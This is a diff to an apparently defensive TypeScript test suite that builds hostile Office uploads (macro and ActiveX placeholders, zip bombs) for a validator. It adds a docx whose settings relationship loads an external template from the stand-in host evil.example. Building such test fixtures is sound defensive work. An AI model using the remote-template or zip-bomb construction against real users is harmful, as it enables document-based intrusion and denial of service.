@@ -12,6 +12,7 @@ import {
   aWebm,
   aZip,
   officeEntries,
+  relationships,
 } from '#tests/sample-files.ts';
 
 let anywhere: Promise<HostileFile[]> | undefined;
@@ -178,6 +179,17 @@ function offices(): HostileFile[] {
   return never([
     zip('with macros', [...docx, { name: 'word/vbaProject.bin', content: 'x' }]),
     zip('with controls', [...docx, { name: 'word/activeX/activeX1.bin', content: 'x' }]),
+    zip('with a template from elsewhere', [
+      ...docx,
+      {
+        name: 'word/_rels/settings.xml.rels',
+        content: relationships({
+          type: 'attachedTemplate',
+          target: 'https://evil.example/t',
+          isExternal: true,
+        }),
+      },
+    ]),
     zip('that is a bomb', [...docx, { name: 'b', content: Buffer.alloc(310 * 1024 * 1024) }]),
     zip('that is many bombs', [
       ...docx,
